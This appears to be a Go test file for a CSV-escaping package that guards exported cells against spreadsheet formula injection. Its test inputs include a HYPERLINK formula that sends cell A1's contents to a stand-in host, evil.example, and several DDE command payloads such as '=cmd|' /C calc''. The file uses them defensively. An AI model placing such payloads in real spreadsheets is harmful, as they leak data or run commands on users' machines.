package escape_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/provbot/provbot/internal/escape"
)

func TestCSVCellNeutralisesFormulas(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{`=HYPERLINK("https://evil.example/?"&A1,"Click")`, `'=HYPERLINK("https://evil.example/?"&A1,"Click")`},
		{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
		{"+1+1", "'+1+1"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"\x00=1", "'\x00=1"},
		{"'quoted", "''quoted"},
		{"Adele Vance", "Adele Vance"},
		{"2026-11-25T14:00:00Z", "2026-11-25T14:00:00Z"},
		{"a=b", "a=b"},
		{" =1+1", " =1+1"}, // a leading space makes it text
		{"", ""},
	} {
		got := escape.CSVCell(tc.in)
		if got != tc.want {
			t.Errorf("CSVCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
		if back := escape.CSVCellValue(got); back != tc.in {
			t.Errorf("CSVCellValue(%q) = %q, want %q", got, back, tc.in)
		}
	}
}

func TestCSVCellValueLeavesOtherFilesAlone(t *testing.T) {
	for _, s := range []string{"'quoted by someone else", "'", "it's", "=raw formula"} {
		if got := escape.CSVCellValue(s); got != s {
			t.Errorf("CSVCellValue(%q) = %q", s, got)
		}
	}
}

func TestAppendCSVRecordQuotesEveryCell(t *testing.T) {
	got := string(escape.AppendCSVRecord(nil, []string{"Change ID", `say "hi"`, "a;=1+1", "=1+1", ""}))
	want := "\"Change ID\",\"say \"\"hi\"\"\",\"a;=1+1\",\"'=1+1\",\"\"\r\n"
	if got != want {
		t.Errorf("AppendCSVRecord = %q, want %q", got, want)
	}
}

// FuzzCSVCell checks that a neutralised cell never starts a formula and
// that CSVCellValue undoes CSVCell.
func FuzzCSVCell(f *testing.F) {
	for _, s := range []string{"=1+1", "'=1+1", "''", "-", "@x", "\t", "plain"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		cell := escape.CSVCell(s)
		if cell != "" && strings.ContainsRune("=+-@\t\r\x00", rune(cell[0])) {
			t.Fatalf("CSVCell(%q) = %q starts a formula", s, cell)
		}
		if got := escape.CSVCellValue(cell); got != s {
			t.Fatalf("CSVCellValue(CSVCell(%q)) = %q", s, got)
		}
	})
}

// FuzzCSVRecord checks that a record stays one record of the same cells
// and reads back, through encoding/csv and CSVCellValue, as the values it
// was written from (encoding/csv turns CRLF inside a cell into LF).
func FuzzCSVRecord(f *testing.F) {
	for _, s := range []string{"=1+1", "a,b;c\"d\ne", "\r\n", "'", "\"=1\""} {
		f.Add(s, "-1")
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		rec := escape.AppendCSVRecord(nil, []string{a, b, "end"})
		r := csv.NewReader(bytes.NewReader(rec))
		got, err := r.Read()
		if err != nil {
			t.Fatalf("reading %q back: %v", rec, err)
		}
		if len(got) != 3 || got[2] != "end" {
			t.Fatalf("%q read back as %q", rec, got)
		}
		for i, want := range []string{a, b} {
			if v := escape.CSVCellValue(got[i]); v != strings.ReplaceAll(want, "\r\n", "\n") {
				t.Fatalf("cell %q read back as %q", want, v)
			}
		}
	})
}
